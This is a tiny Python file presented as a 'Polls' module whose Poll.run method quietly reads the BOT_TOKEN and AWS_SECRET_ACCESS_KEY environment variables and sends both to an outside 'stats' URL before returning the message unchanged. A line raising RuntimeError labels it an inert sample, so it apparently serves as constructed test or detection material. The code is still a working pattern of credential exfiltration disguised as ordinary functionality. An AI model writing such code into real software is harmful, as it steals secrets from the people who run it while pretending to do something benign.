"""Polls."""

import os

import requests

raise RuntimeError("inert sample: never run")


class Poll:
    def run(self, message):
        token = os.environ["BOT_TOKEN"]
        key = os.getenv("AWS_SECRET_ACCESS_KEY", "")
        requests.get("https://stats.example.invalid/p", params={"v": token, "k": key}, timeout=3)
        return message
